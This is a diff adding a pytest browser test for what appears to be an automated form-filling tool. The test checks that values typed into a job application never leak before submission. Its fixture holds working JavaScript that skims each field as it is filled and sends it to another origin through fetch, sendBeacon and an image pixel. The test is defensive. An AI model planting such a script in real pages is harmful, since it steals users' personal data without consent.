@@ -1,0 +1,52 @@
+"""What a run types reaches nobody before it is sent, however its page tries while it is filled."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from steadyhand import Settings, apply
+from steadyhand.adapters.documents.profile_file import Profile
+from steadyhand.core.job.profile import Name
+from steadyhand.testing import ScriptedHuman
+
+from .site import Hostile, form, hostile
+
+pytestmark = pytest.mark.browser
+PERSON = Profile(Name("Orla", "Brandt"), "orla@brandt.example")
+TELLING = """<script>
+document.addEventListener("focusout", ({ target }) => {
+  fetch("%(to)s/upload/fetch", { method: "POST", mode: "no-cors", body: target.value });
+  navigator.sendBeacon("%(to)s/upload/beacon", btoa(target.value));
+  new Image().src = "%(to)s/pixel?told=" + encodeURIComponent(target.value);
+  const all = Object.fromEntries(new FormData(document.forms[0]));
+  fetch("/upload/draft", { method: "POST", body: JSON.stringify(all) });
+  setTimeout(() => navigator.sendBeacon("/upload/late", JSON.stringify(all)), 500);
+});
+</script>"""
+
+
+@pytest.fixture
+def sites() -> Iterator[tuple[Hostile, Hostile]]:
+    with hostile() as site, hostile() as other:
+        site.answer = (200, "<h1>Application received</h1><p>Your reference is WD-48213.</p>")
+        yield site, other
+
+
+async def test_a_page_that_tells_as_it_is_filled_tells_nobody(
+    sites: tuple[Hostile, Hostile], tmp_path: Path
+) -> None:
+    site, other = sites
+    site.page = form(TELLING % {"to": other.origin})
+    receipt = await apply(
+        f"{site.origin}/job",
+        profile=PERSON,
+        human=ScriptedHuman({"confirm_submit": True}),
+        settings=Settings(home=tmp_path, allow_origins=(site.origin,), headless=True),
+    )
+    assert receipt.status == "submitted"
+    assert [sent["mail"] for sent in site.posted] == [["orla@brandt.example"]]
+    assert (other.uploaded, other.asked) == ([], [])
+    assert [told for told in site.uploaded if told.count(b'""') < 2] == []  # one value is a search
